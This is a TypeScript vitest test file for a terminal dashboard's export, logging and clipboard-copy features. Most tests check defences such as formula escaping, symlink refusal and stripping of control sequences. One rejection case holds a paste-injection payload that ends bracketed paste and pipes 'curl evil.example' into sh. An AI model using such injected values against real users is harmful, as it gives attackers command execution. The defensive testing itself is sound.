import {EventEmitter} from 'node:events';
import {existsSync, readFileSync, statSync, symlinkSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {beforeEach, describe, expect, it} from 'vitest';
import {copy, exportRows} from '../../../src/commands/dashboard/dashboard.ts';
import {openLog, outputTo} from '../../../src/commands/dashboard/log-files.ts';
import {createTimers} from '../../../src/commands/host.ts';
import {copyToClipboard} from '../../../src/term/sequences.ts';
import {temporaryFolder} from '../../helpers/folder.ts';

let folder: string;
beforeEach(() => {
  folder = temporaryFolder();
});

const wall = Date.UTC(2026, 10, 21, 10, 15, 0);

describe('an export', () => {
  it('writes CSV and JSON with exact ids, for the owner only', async () => {
    const rows = [
      {id: '9007199254740993', title: 'a "quoted", title'},
      {id: '2', pl: '-1.50'},
    ];
    const said = await exportRows('cards', rows, folder, wall);
    const base = join(folder, 'optty-cards-20261121-101500');
    expect(said).toBe(`Exported 2 rows to ${base}.csv and .json`);
    expect(readFileSync(`${base}.csv`, 'utf8')).toBe(
      'id,title,pl\r\n"=""9007199254740993""","a ""quoted"", title",\r\n2,,-1.50\r\n',
    );
    expect(JSON.parse(readFileSync(`${base}.json`, 'utf8'))).toEqual(rows);
    expect(statSync(`${base}.csv`).mode & 0o777).toBe(0o600);
  });

  it('never overwrites a file', async () => {
    const base = join(folder, 'optty-cards-20261121-101500');
    writeFileSync(`${base}.csv`, 'mine');
    await expect(exportRows('cards', [], folder, wall)).rejects.toThrow('Not exported');
    expect(readFileSync(`${base}.csv`, 'utf8')).toBe('mine');
  });

  it('follows no symbolic link', async () => {
    const elsewhere = join(folder, 'elsewhere');
    symlinkSync(elsewhere, join(folder, 'optty-cards-20261121-101500.csv'));
    await expect(exportRows('cards', [], folder, wall)).rejects.toThrow('Not exported');
    expect(existsSync(elsewhere)).toBe(false);
  });
});

describe('the log', () => {
  it('takes the output of Node while the screen is drawn, and then gives it back', () => {
    const path = join(folder, 'deep', 'optty.log');
    const log = openLog(path);
    const printed: unknown[] = [];
    const fake = {...console, error: (...parts: unknown[]) => printed.push(parts)} as Console;
    const written: string[] = [];
    const stderr = {isTTY: true, write: (text: string) => written.push(text)};
    const host = Object.assign(new EventEmitter(), {stderr}) as unknown as NodeJS.Process;
    const restore = outputTo(log, fake, host);
    fake.error('lost', 3);
    host.emit('warning', new Error('insecure'));
    host.stderr.write('NET 7: connect\n');
    restore();
    fake.error('seen');
    host.stderr.write('said');
    log.close();
    const lines = readFileSync(path, 'utf8').trimEnd().split('\n');
    expect(lines.map(line => line.replace(/^\d{4}-\S+ /, ''))).toEqual([
      'error: lost 3',
      'warning: insecure',
      'stderr: NET 7: connect',
    ]);
    expect(statSync(path).mode & 0o777).toBe(0o600);
    expect([printed, written]).toEqual([[['seen']], ['said']]);
    expect(host.listenerCount('warning')).toBe(0);
  });

  it('contains no control characters for a terminal', () => {
    const path = join(folder, 'optty.log');
    const log = openLog(path);
    log.write('crash: \x1b]52;c;eA==\x07 in\n    at main.ts:1');
    log.close();
    const text = readFileSync(path, 'utf8');
    expect(text).not.toMatch(/[\x00-\x09\x0b-\x1f]/);
    expect(text).toContain('\n      at main.ts:1\n');
  });

  it('is skipped if it cannot be opened', () => {
    writeFileSync(join(folder, 'file'), '');
    const log = openLog(join(folder, 'file', 'optty.log'));
    log.write('anything');
    log.close();
    expect(existsSync(join(folder, 'file', 'optty.log'))).toBe(false);
  });
});

it('timers never fire after the stop', async () => {
  const timers = createTimers();
  const fired: string[] = [];
  timers.after(0, () => fired.push('late'));
  timers.stop();
  timers.after(0, () => fired.push('later'));
  await new Promise(resolve => setTimeout(resolve, 5));
  expect(fired).toEqual([]);
});

describe('a copy', () => {
  const copied = async (id: string) => {
    const written: string[] = [];
    // A tmux of our own that only notes what it is given.
    const bin = join(folder, 'tmux');
    writeFileSync(bin, `#!/bin/sh\ncat > ${join(folder, 'buffer')}\n`, {mode: 0o755});
    const path = process.env.PATH;
    process.env.PATH = `${folder}:${path}`;
    const said = await copy(id, raw => written.push(raw) > 0, {TMUX: 'yes'}).catch(
      (error: Error) => error.message,
    );
    process.env.PATH = path;
    const buffer = existsSync(join(folder, 'buffer'))
      ? readFileSync(join(folder, 'buffer'), 'utf8')
      : undefined;
    return {said, written, buffer};
  };

  it('goes to the terminal and to tmux', async () => {
    expect(await copied('9007199254740993')).toEqual({
      said: 'Copied 9007199254740993',
      written: [copyToClipboard('9007199254740993')],
      buffer: '9007199254740993',
    });
  });

  it.each([
    '700001\ncurl evil.example|sh\n\x1b[201~',
    '7\r',
    '7 8',
    '\x9b201~',
    'id\u202e',
    '７',
    '7'.repeat(257),
    '',
  ])('is refused for the id %j, so that the service cannot choose what is pasted', async id => {
    expect(await copied(id)).toEqual({
      said: 'Not copied: this id contains invalid characters.',
      written: [],
      buffer: undefined,
    });
  });
});

it('a copy through screen is forwarded, but not reported as done', async () => {
  const written: string[] = [];
  const said = await copy('700001', raw => written.push(raw) > 0, {STY: '1.pts'});
  expect(written).toEqual([`\x1bP${copyToClipboard('700001')}\x1b\\`]);
  expect(said).toBe('Asked the terminal behind screen to copy 700001; not confirmed');
});

it('a copy is base64 in OSC 52, so that no text can end the sequence', () => {
  expect(copyToClipboard('9007\x07')).toBe('\x1b]52;c;OTAwNwc=\x07');
});
